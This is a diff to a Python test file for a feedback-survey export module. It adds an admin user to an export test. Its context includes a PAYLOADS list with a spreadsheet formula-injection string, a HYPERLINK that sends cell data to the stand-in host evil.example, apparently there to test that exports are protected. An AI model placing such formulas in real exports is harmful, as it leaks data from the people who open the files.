@@ -7,7 +7,10 @@ import pytest
 
 from feedback.figures import Filters, exports
 from feedback.plans import editing
+from feedback.staff import auth
 from tests.conftest import answered, open_round
+
+ADMIN = auth.User("ada", auth.Role.ADMIN, (), False)
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Klikkaa")',
@@ -49,7 +52,7 @@ def test_the_answers_export_holds_only_rounds_with_k_answers_and_no_flagged(plan
     answered(plan_db, big, 4, flagged=True)
     answered(plan_db, big, *[4] * 11)
     answered(plan_db, small, 1, 1, 1)
-    frame = exports.answers(plan_db, "mini", filters=Filters(), k=10)
+    frame = exports.answers(plan_db, "mini", filters=Filters(), k=10, user=ADMIN)
     assert set(frame["round"]) == {big.code}
     assert frame["answers"].sum() == 11, "the flagged answer is left out"
     assert set(frame.columns) >= {"month", "group", "channel", "score"}
